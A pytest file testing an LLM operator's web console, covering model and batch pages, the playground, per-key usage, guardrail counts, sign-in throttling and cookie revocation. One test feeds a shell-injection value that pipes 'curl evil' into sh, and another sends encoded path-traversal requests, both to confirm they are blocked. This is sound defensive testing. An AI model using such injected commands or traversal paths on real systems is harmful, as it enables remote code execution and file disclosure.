"""The console's pages over a source of models: what each shows, and what none ever does."""

from __future__ import annotations

import contextlib
import re
from collections.abc import AsyncIterator, Callable, Sequence
from dataclasses import dataclass, field
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from yarl import URL

from llm_operator.access.keyring import parse_keyring
from llm_operator.api.validation import parse_llmmodel
from llm_operator.console.pages import Console
from llm_operator.console.views import Condition, ModelState, Visitor
from llm_operator.gateway.telemetry.metrics import GatewayMetrics, RouteMetrics

from samples import GUIDE_SAMPLES, load_yaml


@dataclass
class Models:
    """A source that says what the test sets."""

    now: list[ModelState] = field(default_factory=list)

    def states(self) -> Sequence[ModelState]:
        return self.now


def _states() -> list[ModelState]:
    out = []
    for path in GUIDE_SAMPLES:
        model = parse_llmmodel(load_yaml(path))
        names = (model.spec.model_id, f"{model.namespace}/{model.name}", model.name)
        if model.name == "gpt55-remote":
            out.append(ModelState(model, "Ready", "", 1, 1, model.name, "gpt55-remote-gateway",
                                  objects=(("Deployment", "gpt55-remote-gateway"),),
                                  names=names))
        elif model.name.startswith("gemma"):
            out.append(ModelState(model, "Pending", "", 0, 1, None, conditions=(
                Condition("Ready", "False", "Unschedulable",
                          "0/1 nodes are available: 1 Insufficient nvidia.com/gpu"),),
                names=names))
        else:
            out.append(ModelState(model, "Ready", "", 2, 2, model.name, names=names))
    return out


@dataclass
class Served:
    url: str
    models: Models
    metrics: GatewayMetrics
    console: Console


@pytest.fixture
async def served() -> AsyncIterator[Served]:
    async with serving() as found:
        yield found


@contextlib.asynccontextmanager
async def serving(viewer: Callable[[str | None], Visitor | None] | None = None
                  ) -> AsyncIterator[Served]:
    models, metrics = Models(_states()), GatewayMetrics()
    async def batches(owner: str) -> list[dict[str, Any]]:
        assert owner == ""  # no client keys: the batches of no key
        return [{"id": "batch_1", "status": "in_progress", "endpoint": "/v1/chat/completions",
                 "created_at": 1_700_000_000, "output_file_id": None, "error_file_id": None,
                 "request_counts": {"total": 10, "completed": 3, "failed": 1}},
                {"id": "batch_0", "status": "completed", "endpoint": "/v1/chat/completions",
                 "created_at": 1_699_999_000, "output_file_id": "file-out",
                 "error_file_id": None,
                 "request_counts": {"total": 2, "completed": 2, "failed": 0}}]

    console = Console(models, metrics.registry, gateway_url=lambda: "http://gw.example:8000",
                      where="test", batches=batches,
                      slots=lambda route: (2.0, 8) if route == "gpt55-remote" else None,
                      every=3600,  # the test reads (Console.read): no timer adds points
                      **({"viewer": viewer} if viewer else {}))
    app = web.Application()
    console.add_routes(app.router)
    server = TestServer(app, host="127.0.0.1")
    await server.start_server()
    try:
        yield Served(str(server.make_url("")).rstrip("/"), models, metrics, console)
    finally:
        await console.close()
        await server.close()


async def _get(url: str) -> tuple[int, str, dict[str, str]]:
    async with aiohttp.ClientSession() as session, session.get(url) as resp:
        return resp.status, await resp.text(), dict(resp.headers)


def _text(html: str) -> str:
    """What a reader sees: the page's text, its tags gone and its spaces folded."""
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


async def test_the_models_page_lists_every_model_with_its_state_and_verdict(
        served: Served) -> None:
    status, html, headers = await _get(f"{served.url}/ui/models")
    assert status == 200 and headers["Content-Type"].startswith("text/html")
    assert "default-src 'self'" in headers["Content-Security-Policy"]
    rows = re.findall(r'<tr data-model="([^"]+)"', html)
    assert rows == sorted(f"{s.model.namespace}/{s.model.name}" for s in served.models.now)
    text = _text(html)
    assert "Unschedulable: 0/1 nodes are available: 1 Insufficient nvidia.com/gpu" in text
    assert "does-not-fit" in text or "fits" in text  # the planner's verdict on each


@pytest.mark.parametrize(("path", "status"), [
    ("/ui/", 200),  # to the models page
    ("/ui/models/rows", 200),
    ("/ui/playground", 200),
    ("/ui/api/series", 200),
    ("/ui/static/console.js", 200),
    ("/ui/static/vendor/htmx.org/htmx.min.js", 200),
    ("/ui/static/vendor/uplot/LICENSE", 200),
    ("/ui/models/nowhere/nothing", 404),
    ("/ui/static/%2e%2e/pages.py", 404),  # sent as written: out of static/, refused
    ("/ui/static/..%2fpages.py", 404),
])
async def test_each_address_answers(served: Served, path: str, status: int) -> None:
    async with aiohttp.ClientSession() as session, session.get(
            URL(f"{served.url}{path}", encoded=True)) as resp:
        assert resp.status == status


async def test_a_models_page_shows_its_plan_spec_and_why_it_is_not_serving(
        served: Served) -> None:
    pending = next(s for s in served.models.now if s.phase == "Pending").model
    status, html, _ = await _get(f"{served.url}/ui/models/{pending.namespace}/{pending.name}")
    text = _text(html)
    assert status == 200
    assert "Pending Unschedulable: 0/1 nodes are available" in text
    assert "Capacity plan" in text and "Memory estimate" in text
    assert f"modelId: {pending.spec.model_id}" in html
    assert "Pending" in _text(html.split("Recent changes")[1])  # seen by the console


async def test_a_routed_models_figures_come_from_the_gateways_registry(
        served: Served) -> None:
    await _get(f"{served.url}/ui/models")  # opens the console: the first reading
    route = RouteMetrics(served.metrics, "gpt55-remote")
    for _ in range(4):
        route.request(200, 0.2)
    route.completion_tokens.inc(80)
    route.prompt_tokens.inc(400)
    route.cached_prompt_tokens.inc(300)
    served.console.read()
    async with aiohttp.ClientSession() as session, session.get(
            f"{served.url}/ui/api/series", params={"route": "gpt55-remote"}) as resp:
        (only,) = (await resp.json())["gpt55-remote"]
    assert only["requestsPerSecond"] > 0 and 100 < only["p50Ms"] <= 250
    assert only["tokensPerSecond"] > 0
    assert (only["busy"], only["slots"], only["cacheHitPercent"]) == (2.0, 8, 75.0)
    _, html, _ = await _get(f"{served.url}/ui/models")
    row = html.split('data-model="ai-models/gpt55-remote"')[1].split("</tr>")[0]
    assert re.search(r"<td>\d+\.\d\d</td>", row), row  # requests/s in the table


async def test_the_playground_offers_its_models_and_the_same_request_as_code(
        served: Served) -> None:
    status, html, _ = await _get(f"{served.url}/ui/playground?model=gpt-5.5")
    text = _text(html)
    assert status == 200
    assert '<option value="gpt-5.5" selected>' in html
    assert "curl -sN http://gw.example:8000/v1/chat/completions" in text
    assert "OpenAI(base_url=&#34;http://gw.example:8000/v1&#34;" in html
    assert "Anthropic(base_url=&#34;http://gw.example:8000&#34;" in html


async def test_with_no_page_open_the_console_reads_nothing(served: Served) -> None:
    assert not served.console.reading  # nothing asked yet: no task, no reading
    assert served.console.rolling.points == {}
    await _get(f"{served.url}/ui/models")
    assert served.console.reading


async def test_the_batches_page_shows_each_batchs_progress_and_its_files(
        served: Served) -> None:
    status, html, _ = await _get(f"{served.url}/ui/batches")
    assert status == 200
    assert re.findall(r'<tr data-batch="([^"]+)"', html) == ["batch_1", "batch_0"]
    assert '<progress id="p-batch_1" max="10" value="4"' in html  # completed + failed
    assert 'aria-label="batch_1: 4 of 10 requests done"' in html
    assert '<a href="/v1/files/file-out/content">output</a>' in html
    assert (await _get(f"{served.url}/ui/batches/rows"))[1].startswith('<tbody id="batch-rows"')


KEYS = parse_keyring({"keys": [{
    "id": "team-a", "sha256": "0" * 64, "models": ["gpt-5.5"], "requestsPerMinute": 60,
    "budget": {"usd": 20, "period": "month"}}]})
(TEAM,) = KEYS.keys


def _team(given: str | None) -> Visitor | None:
    return Visitor("team-a", lambda state: "gpt-5.5" in state.names, TEAM) \
        if given == "sk-team" else None


async def test_a_key_sees_its_own_use_budget_and_allowances() -> None:
    async with serving(_team) as served, aiohttp.ClientSession(
            headers={"Authorization": "Bearer sk-team"}) as http:
        metrics = served.metrics
        metrics.key_requests.labels("team-a", "200").inc(7)
        metrics.key_requests.labels("team-a", "429").inc(1)
        metrics.key_requests.labels("other", "200").inc(100)  # not this key's
        metrics.key_tokens.labels("team-a", "prompt").inc(1200)
        metrics.key_tokens.labels("team-a", "completion").inc(300)
        metrics.key_spend.labels("team-a").set(5.0)
        async with http.get(f"{served.url}/ui/keys") as r:
            text = _text(await r.text())
        async with http.get(f"{served.url}/ui/models") as r:
            rows = re.findall(r'<tr data-model="([^"]+)"', await r.text())
    assert "Requests 8 200: 7 429: 1" in text
    assert "Tokens 1200 in, 300 out" in text
    assert "$5.00 of $20.00 this month" in text
    assert "Models gpt-5.5" in text and "Requests per minute 60" in text
    assert rows == ["ai-models/gpt55-remote"]  # the models it may use


async def test_without_client_keys_the_keys_page_says_how_to_set_them(
        served: Served) -> None:
    assert "asks for no client key" in _text((await _get(f"{served.url}/ui/keys"))[1])


async def test_guard_activations_by_model_and_entity_never_the_text(served: Served) -> None:
    await _get(f"{served.url}/ui/models")  # the console reads from now on
    found = served.metrics.guard_activations
    found.labels("gpt55-remote", "pii", "output", "mask", "CREDIT_CARD").inc(3)
    found.labels("gpt55-remote", "pii", "input", "block", "US_SSN").inc()
    status, html, _ = await _get(f"{served.url}/ui/guardrails")
    text = _text(html)
    assert status == 200
    assert "gpt55-remote pii output mask CREDIT_CARD 3 3" in text
    assert "gpt55-remote pii input block US_SSN 1 1" in text
    assert 'id="guard-chart"' in html
    served.console.read()
    async with aiohttp.ClientSession() as session, session.get(
            f"{served.url}/ui/api/guards") as resp:
        chart = await resp.json()
    # its lines (their counts per interval: test_series); one reading is kept at every=3600
    assert set(chart["lines"]) == {"pii CREDIT_CARD", "pii US_SSN"}


async def test_the_playground_offers_only_the_visitors_models_and_quotes_for_the_shell(
        served: Served) -> None:
    html = (await _get(f"{served.url}/ui/playground?model=x%27%3B%20curl%20evil%7Csh"))[1]
    assert "evil" not in html  # a link's text never reaches the page's commands
    assert "-d &#39;{&#34;model&#34;: &#34;" in html


async def test_without_a_valid_key_nothing_is_shown_or_read() -> None:
    async with serving(_team) as served, aiohttp.ClientSession() as http:
        for path in ("/ui/models", "/ui/api/series", "/ui/batches", "/ui/guardrails",
                     "/ui/models/ai-models/gpt55-remote"):
            async with http.get(f"{served.url}{path}") as r:
                assert r.status == 401, path
        assert not served.console.reading  # no reading started for them
        async with http.get(f"{served.url}/ui/api/series", params={"route": "gemma"},
                            headers={"Authorization": "Bearer sk-team"}) as r:
            assert await r.json() == {}  # a route of a model it may not use: nothing


async def test_an_address_that_fails_to_sign_in_too_often_waits_and_valid_keys_still_work(
        ) -> None:
    async with serving(_team) as served, aiohttp.ClientSession() as http:
        now = [1000.0]
        served.console.clock = lambda: now[0]
        for attempt in range(10):
            async with http.post(f"{served.url}/ui/login", data={"key": f"sk-guess-{attempt}"},
                                 allow_redirects=False) as r:
                assert r.status == 401
        async with http.post(f"{served.url}/ui/login", data={"key": "sk-guess-10"},
                             allow_redirects=False) as r:
            assert r.status == 429 and r.headers["Retry-After"] == "60"
            assert "Too many failed sign-ins" in await r.text()
        # a valid key signs in all the same: behind a proxy, everyone shares one address
        async with http.post(f"{served.url}/ui/login", data={"key": "sk-team"},
                             allow_redirects=False) as r:
            assert r.status == 303
        async with http.get(f"{served.url}/ui/models",
                            headers={"Authorization": "Bearer sk-team"}) as r:
            assert r.status == 200
        now[0] += 60
        async with http.post(f"{served.url}/ui/login", data={"key": "sk-guess-11"},
                             allow_redirects=False) as r:
            assert r.status == 401  # its failures have left the window


async def test_a_cookie_that_no_longer_signs_in_is_forgotten() -> None:
    async with serving(_team) as served, aiohttp.ClientSession(
            headers={"Cookie": "llmop_console_key=sk-revoked"}) as http, http.get(
            f"{served.url}/ui/models") as r:
        assert r.status == 401
        assert 'llmop_console_key=""' in r.headers["Set-Cookie"]
